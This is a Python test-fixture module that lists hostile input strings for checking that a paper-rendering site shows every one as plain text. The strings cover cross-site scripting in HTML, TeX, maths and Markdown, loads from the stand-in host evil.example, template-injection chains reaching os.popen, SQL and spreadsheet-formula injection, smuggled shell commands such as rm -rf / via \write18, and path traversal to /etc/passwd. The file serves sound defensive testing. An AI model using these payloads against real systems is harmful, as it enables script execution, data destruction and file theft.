"""Texts that try to be more than text: in fields, names, links, categories and options.

`texts()` gives (name, text) of each; none of them may lead to anything but its own
letters on a page.  A text that would run something shows the word `PWNED` doing so, or
asks the host `evil.example`, so that a browser test can look for both.
"""

from __future__ import annotations

from collections.abc import Iterator

MARKUP = r"""
<script>alert('PWNED')</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script type="module">import "https://evil.example/x.js"</script>
</script><script>alert('PWNED')</script>
</title><script>alert('PWNED')</script>
</textarea><script>alert('PWNED')</script>
</style><script>alert('PWNED')</script>
</article></main></body></html><script>alert('PWNED')</script>
--><script>alert('PWNED')</script><!--
<!--><script>alert('PWNED')</script>
<![CDATA[<script>alert('PWNED')</script>]]>
]]><script>alert('PWNED')</script>
<scr<script>ipt>alert('PWNED')</scr</script>ipt>
<<script>alert('PWNED');//<</script>
<script/x>alert('PWNED')</script>
<script
>alert('PWNED')</script>
<img src=x onerror=alert('PWNED')>
<img src="https://evil.example/pixel.png">
<img srcset="https://evil.example/pixel.png 1x">
<svg onload=alert('PWNED')>
<svg><script href="https://evil.example/x.js"/></svg>
<svg><animate onbegin=alert('PWNED') attributeName=x dur=1s>
<svg><use href="https://evil.example/x.svg#a"/></svg>
<body onload=alert('PWNED')>
<input autofocus onfocus=alert('PWNED')>
<details open ontoggle=alert('PWNED')>
<video src=x onerror=alert('PWNED')></video>
<audio src="https://evil.example/a.mp3" autoplay></audio>
<iframe src="javascript:alert('PWNED')"></iframe>
<iframe srcdoc="<script>alert('PWNED')</script>"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<link rel=stylesheet href="https://evil.example/x.css">
<style>body{background:url(https://evil.example/x.png)}</style>
<style>@import "https://evil.example/x.css";</style>
<div style="background:url(https://evil.example/x.png)">styled</div>
<meta http-equiv=refresh content="0;url=https://evil.example/">
<base href="https://evil.example/">
<form action="https://evil.example/"><button>send</button></form>
<a href="javascript:alert('PWNED')">link</a>
<a href="data:text/html,<script>alert('PWNED')</script>">link</a>
<math><mtext><script>alert('PWNED')</script></mtext></math>
<math href="javascript:alert('PWNED')">x</math>
<math><maction actiontype="statusline" xlink:href="javascript:alert('PWNED')">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert('PWNED')></annotation-xml>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=x&gt;">
<noscript><p title="</noscript><img src=x onerror=alert('PWNED')>">
<template><script>alert('PWNED')</script></template>
<custom-element onclick=alert('PWNED')>x</custom-element>
<plaintext>
<xmp><script>alert('PWNED')</script></xmp>
<?php echo 'PWNED'; ?>
<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "PWNED">]>&e;
<!DOCTYPE x SYSTEM "https://evil.example/x.dtd">
<think>thoughts of a model</think>
<memory> <tool_call> </s> <|endoftext|> <unk>
a < b > c & d && e << f
&lt;script&gt;alert('PWNED')&lt;/script&gt;
&#60;script&#62;alert('PWNED')&#60;/script&#62;
&amp;lt;b&amp;gt; &nbsp; &bogus; &#x0; &#xD800; &#99999999;
" onmouseover="alert('PWNED')" x="
' onmouseover='alert("PWNED")' x='
` onmouseover=alert('PWNED') x=
"><img src=x onerror=alert('PWNED')>
'><svg/onload=alert('PWNED')>
"/><script>alert('PWNED')</script>
"""

ADDRESSES = r"""
javascript:alert('PWNED')
JaVaScRiPt:alert('PWNED')
 javascript:alert('PWNED')
javascript&colon;alert('PWNED')
java	script:alert('PWNED')
data:text/html;base64,PHNjcmlwdD5hbGVydCgnUFdORUQnKTwvc2NyaXB0Pg==
vbscript:msgbox("PWNED")
file:///etc/passwd
blob:https://evil.example/1
//evil.example/x
\\evil.example\share
https:evil.example
https:///evil.example/x
https://evil.example@arxiv.org/abs/2511.00001
https://arxiv.org\@evil.example/
https://arxiv.org/abs/2511.00001"onclick="alert('PWNED')
https://arxiv.org/abs/2511.00001' onclick='alert(1)
https://arxiv.org/abs/<script>alert('PWNED')</script>
https://arxiv.org/abs/2511.00001#"><img src=x onerror=alert('PWNED')>
https://[::1]/x https://[evil/ https://[]/ http://:80/ http://x:99999/
https://xn--/ https://-.example/ https://a..b/ https://%00/ https://%zz/
https://例え.example/パス?q=値#片
http://localhost:8000/../../../../etc/passwd
ftp://evil.example/x mailto:x@evil.example tel:123
feed:https://evil.example/x view-source:https://evil.example/
"""

TEX = r"""
\href{javascript:alert('PWNED')}{click}
\href{JAVASCRIPT:alert('PWNED')}{click}
\href{data:text/html,<script>alert('PWNED')</script>}{click}
\href{https://evil.example/" onmouseover="alert('PWNED')}{click}
\href{https://evil.example/}{<img src=x onerror=alert('PWNED')>}
\href{https://a.example/}{\href{https://b.example/}{nested} \url{https://c.example/}}
\href{}{nothing} \href{x}{} \href{https://a.example/} \href \url \url{}
\url{javascript:alert('PWNED')} \url{https://evil.example/<script>}
\textbf{<script>alert('PWNED')</script>}
\role{<memory>} \undefined{<img src=x onerror=alert('PWNED')>}
\input{/etc/passwd} \include{../../secret} \write18{rm -rf /} \immediate\write18{id}
\def\x{\x\x}\x \newcommand{\y}{\y\y}\y \let\z\z \csname PWNED\endcsname
\catcode`\<=13 \makeatletter \@ifnextchar \begingroup\endgroup
{\em <b>x</b>} {\bf {\it {\tt deep}}} {\sc x} {\unknown x}
\begin{document}<script>alert('PWNED')</script>\end{document}
\verb|<script>| \verb+</title>+ \lstinline{<x>}
\"{<} \'{"} \^{'} \c{<script>} \k{appa}<script> \b{eta}"x"
\special{html:<script>alert('PWNED')</script>}
{{{{ }}}} }{ }}}} {{{ \{ \} \\{ \\} {\}
\cite{<script>} \label{"x"} \footnote{<script>alert('PWNED')</script>} \ref{'x'}
~<~>~"~'~ --<-- ``<''> `<' '' `` ` '
C:\Users\<script> \n\t\r\x00 \d+\w*[<>] \\server\share
\textsc{</span><script>alert('PWNED')</script>} \texttt{</code><script>} \underline{</u>}
"""

MATHS = r"""
$\text{<script>alert('PWNED')</script>}$
$\href{javascript:alert('PWNED')}{x}$
$\url{javascript:alert('PWNED')}$
$\operatorname{<script>}$ $\operatorname<$ $\operatorname{<}$ $\operatorname*{"x"}$
$\class{x" onclick="alert('PWNED')}{y}$ $\style{background:url(https://evil.example)}{y}$
$\cssId{x}{y}$ $\id{"}$ $\data{x=y}{z}$ $\htmlClass{a}{b}$ $\htmlStyle{color:red}{b}$
$\includegraphics{https://evil.example/x.png}$
$\unicode{x3c}script\unicode{x3e}$ $\unicode{xD800}$ $\unicode{x0}$ $\unicode{x110000}$ $\char"3C$
$\mathrm{</math><script>alert('PWNED')</script>}$
$</math><script>alert('PWNED')</script>$
$<img src=x onerror=alert('PWNED')>$
$x" onclick="alert('PWNED')$ $x' onclick='alert(1)$
$&lt;script&gt;$ $a & b && c$ $&bogus;$ $]]>$ $<!--$ $-->$ $<![CDATA[$
$\color{red;background:url(https://evil.example/)}x$ $\textcolor{"><script>}{x}$
$\hspace{1em;x:y}$ $\rule{1em" onclick="}{1em}$ $\tag{<b>}$ $\label{"><script>}x\ref{"><script>}$
$\begin{array}{c"onclick="x|c}a&b\end{array}$ $\begin{matrix}<b>&"\\'&`\end{matrix}$
$\begin{align}a&=b\label{"><script>}\\c&=d\tag{<script>}\end{align}$
$\newcommand{\x}{\x\x}\x$ $\def\x{\x\x\x}\x$ $\newcommand{\a}[1]{#1#1#1#1}\a{\a{\a{\a{\a{\a{x}}}}}}$
$\left( \left[ \left\{ \right. x$ $\right)$ $\left$ $\right$ $\middle|$
$^$ $_$ $^^$ $__$ $x^{$ $}x{$ ${$ $}$ $x^^2$ $x__2$ $x''''''''$
$\frac$ $\frac{$ $\frac{}{}$ $\sqrt[$ $\sqrt[]{}$ $\binom{}$ $\over$ $a\over b\over c$
$\begin{x}$ $\end{x}$ $\begin{matrix}$ $\begin{}{}\end{}$ $\begin{matrix}\end{pmatrix}$
$\\\\\\\\$ $\\[9999em]$ $\hline$ $&$ $#1$ $%$ $~$ $\$ $\ $ $\\$
$$ $$ $$$ $$$$ \( \) \[ \] \(\[ \]\) $ $ $
$\mathbb{<}$ $\mathcal{&}$ $\mathfrak{"}$ $\boldsymbol{'}$ $\mathtt{</mi>}$
$\mbox{$\mbox{$\mbox{$x$}$}$}$ $\text{$x$ and $\text{$y$}$}$
$\sqrt{\sqrt{\sqrt{\sqrt{\sqrt{\sqrt{x}}}}}}$ $x_{y_{z_{w_{v_{u}}}}}$
\begin{equation}</math><script>alert('PWNED')</script>\end{equation}
\begin{align*}<script>&=alert('PWNED')\\</script>\end{align*}
"""

MARKDOWN = r"""
[click](javascript:alert('PWNED'))
[click](JaVaScRiPt:alert%28'PWNED'%29)
[click](<javascript:alert('PWNED')>)
[click](javascript&colon;alert('PWNED'))
[click](data:text/html,<script>alert('PWNED')</script>)
[click](https://evil.example/" onmouseover="alert('PWNED'))
[click](https://a.example/ "title" onclick="alert('PWNED')")
![image [click](https://a.example/) of](https://b.example/)
[a [b](https://b.example/) c](https://c.example/)
![image](https://evil.example/pixel.png)
![image](javascript:alert('PWNED'))
[![image](https://evil.example/p.png)](javascript:alert('PWNED'))
<javascript:alert('PWNED')> <https://evil.example/"onclick="x>
**bold <script>alert('PWNED')</script>** and **<img src=x onerror=alert('PWNED')>**
`</code><script>alert('PWNED')</script>` ``` `` `
[x]: javascript:alert('PWNED')
**[click](vbscript:x)** *[click](//evil.example)* ~~[x](\\evil.example)~~
**$</math><script>alert('PWNED')</script>$** `$x$` **\href{javascript:alert('PWNED')}{x}**
&lt;img src=x onerror=alert('PWNED')&gt; **&#106;avascript:alert('PWNED')**
"""

TEMPLATES = r"""
{{ 7 * 7 }} {{ config }} {{ ''.__class__.__mro__ }}
{% include '/etc/passwd' %} {% for x in y %}PWNED{% endfor %} {# comment #}
{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
${7*7} #{7*7} <%= 7*7 %> [[7*7]] {{{raw}}} {{{{raw}}}} %(x)s {0} {x!r} $x ${x}
@import url(https://evil.example/x.css); */ body{} /*
__proto__ constructor toString hasOwnProperty valueOf
"}],"x":[{"y":"PWNED
\u003cscript\u003ealert('PWNED')\u003c/script\u003e \x3cscript\x3e
'; DROP TABLE papers; -- " OR 1=1
=HYPERLINK("https://evil.example","x") +cmd|'/C calc'!A0 @SUM(1+1)
$(touch PWNED) `touch PWNED` ; touch PWNED | touch PWNED && touch PWNED
@misc{x, title = {a}}, note = {PWNED}} %0A%0D Set-Cookie: x
TY  - JOUR | ER  - | T1  - PWNED
%s %n %x %% \0 \1 $1 $& $` $'
"""

NAMES = r"""
../../../etc/passwd
..\..\windows\system32
/etc/passwd
C:\Windows\win.ini
CON
nul.txt
.
..
.htaccess
.git/config
index
-rf
--help
~root
a/b/c
a\b\c
name with spaces
trailing.
COM1.html
aux
%2e%2e%2f%2e%2e%2f
cs.AI/../cs.LG
cs.AI<script>
cs.AI" onclick="alert('PWNED')
"""

# Characters that are dangerous by themselves.
CHARACTERS = {
    "null": "be\x00fore",
    "controls": "".join(chr(code) for code in range(32)),
    "delete and C1": "a\x7fb" + "".join(chr(code) for code in range(0x80, 0xA0)) + "c",
    "escape sequence": "\x1b[31mred\x1b[0m \x1b]0;PWNED\x07",
    "bell, backspace": "a\x07b\x08\x08c",
    "line separators": "a\u2028b\u2029c\x85d\x0be\x0cf",
    "carriage returns": "a\rb\r\nc\n\rd",
    "override": "\u202egnp.exe\u202c and \u202dleft\u202c",
    "embedding": "\u202aa\u202bb\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "unclosed override": "\u202e\u202e\u202e<script>alert('PWNED')</script>",
    "arabic and hebrew": "نص عربي with עברית inside",
    "byte order mark": "\ufeffa\ufeffb",
    "noncharacters": "a\ufffeb\uffffc\ufdd0d\ufdd10\ufdd1e\U0001fffef\U0010fffff",
    "marks of formulas": "\ufdd00\ufdd1 \ufdd099999\ufdd1 $x$ \ufdd0",
    "lone high surrogate": "a\ud800b",
    "lone low surrogate": "a\udfffb",
    "surrogate pair": "a\ud83d\ude00b",
    "private use": "a\ue000\uf8ff\U000f0000b",
    "tags": "a\U000e0041\U000e0042\U000e007fb",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\u00adf\ufefff",
    "variation selectors": "a\ufe00\ufe0f\U000e0100b",
    "combining": "e" + "\u0301\u0323" * 200 + " after",
    "combining first": "\u0301\u0302 starts",
    "emoji": "👩‍👩‍👧‍👦 🏳️‍🌈 🇦🇶 1️⃣",
    "interlinear": "a\ufff9b\ufffac\ufffbd",
    "fullwidth script": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "overlong by hand": "\xc0\xbcscript\xc0\xbe",
    "homographs": "https://аrxiv.org/abs/2511.00001 and https://arxiv。org/",
    "kelvin and others": "\u212a \u017f \u0130 \u0131 ﬁ \u1e9e",
    "ideographic space": "\u3000中文\u3000\u3000文\u3000",
    "musical": "\U0001d173\U0001d174x",
    "all of Latin-1": "".join(chr(code) for code in range(256)),
    "only spaces": " \t\u00a0\u2003\u3000 ",
    "nothing": "",
}

# Pieces that are repeated to a hundred thousand characters or levels.
_REPEATED = [
    *("{", "}", "[", "]", "(", "<", ">", "&", "$", "$$", "`", "*", "**", "_", "~", "--", "\\", "'"),
    *("{\\em ", "\\textbf{", "\\href{", "\\url{", "\\footnote{", "\\cite[", '\\"', "\\(", "\\["),
    *("\\begin{equation}", "\\left(", "\\sqrt", "$x^{", "\\frac{", "\\text{$", "![", "](", "> "),
    *("- ", "- a\n", "1. a\n", "\n", "|a|\n|-|\n", "https://", "github.com/", "$.$", "\u0301"),
    *("中", "Ab", "<b>", "</", "&lt;", "{{", "{%", "\u202e", "\ud800", "$5-", '``a"', "$x$ "),
]
LENGTH = 100_000


def _nested() -> Iterator[tuple[str, str]]:
    deep = LENGTH // 2
    yield "nested groups", "{" * deep + "x" + "}" * deep
    yield "nested emphasis", "\\emph{" * deep + "x" + "}" * deep
    yield "nested roots", "$" + "\\sqrt{" * 300 + "x" + "}" * 300 + "$"
    yield "chained roots", "$" + "\\sqrt" * 110 + "x$"
    yield "nested scripts", "$" + "x^{" * 190 + "y" + "}" * 190 + "$"
    yield "nested delimiters", "\\[" + "\\left(" * 120 + "x" + "\\right)" * 120 + "\\]"
    yield "nested environments", "\\[" + "\\begin{matrix}" * 60 + "\\end{matrix}" * 60 + "\\]"
    yield "nested fractions", "\\[" + "\\frac{a}{" * 180 + "b" + "}" * 180 + "\\]"
    yield "nested quotes", "> " * 5000 + "x"
    yield "nested lists", "".join("  " * depth + "- x\n" for depth in range(300))
    yield "long formula", "$" + "x+" * deep + "x$"
    yield "long word", "Donaudampfschiff" * 6000
    yield "long address", "https://a.example/" + "a" * LENGTH
    yield "many formulas", "$x_1$ " * (LENGTH // 6)
    yield "many links", "https://a.example/b " * (LENGTH // 20)


def texts() -> list[tuple[str, str]]:
    """Return the name and the text of each hostile text, names without repetition."""
    found: list[tuple[str, str]] = []
    for kind, lines in (
        ("markup", MARKUP),
        ("address", ADDRESSES),
        ("tex", TEX),
        ("maths", MATHS),
        ("markdown", MARKDOWN),
        ("template", TEMPLATES),
        ("name", NAMES),
    ):
        found += [
            (f"{kind} {number}", line)
            for number, line in enumerate(lines.strip("\n").split("\n"), 1)
        ]
        found.append((f"{kind} together", lines))
    found += CHARACTERS.items()
    return found


def large_texts() -> list[tuple[str, str]]:
    """Return texts of a hundred thousand characters or levels."""
    repeated = [(f"repeated {piece!r}", piece * (LENGTH // len(piece))) for piece in _REPEATED]
    return [*repeated, *_nested()]
